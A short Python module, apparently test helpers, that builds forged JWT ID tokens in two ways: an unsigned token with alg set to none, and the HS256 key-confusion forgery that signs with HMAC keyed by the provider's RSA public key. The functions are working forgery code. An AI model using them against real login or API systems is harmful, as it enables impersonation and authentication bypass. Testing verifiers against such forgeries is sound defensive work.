"""Forged ID tokens: unsigned, and the HS256 key-confusion forgery."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from typing import Any

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def unsigned_token(header: dict[str, Any], payload: dict[str, Any]) -> str:
    """A JWT with ``alg`` none (or any header) and no signature."""
    return f"{b64(json.dumps(header).encode())}.{b64(json.dumps(payload).encode())}."


def hs256_with_public_key(public_key: rsa.RSAPublicKey, payload: dict[str, Any],
                          kid: str) -> str:
    """The key-confusion forgery: HMAC-SHA256 keyed with the provider's public key."""
    pem = public_key.public_bytes(serialization.Encoding.PEM,
                                  serialization.PublicFormat.SubjectPublicKeyInfo)
    signing_input = (f"{b64(json.dumps({'alg': 'HS256', 'typ': 'JWT', 'kid': kid}).encode())}"
                     f".{b64(json.dumps(payload).encode())}")
    return signing_input + "." + b64(hmac.new(pem, signing_input.encode(),
                                               hashlib.sha256).digest())
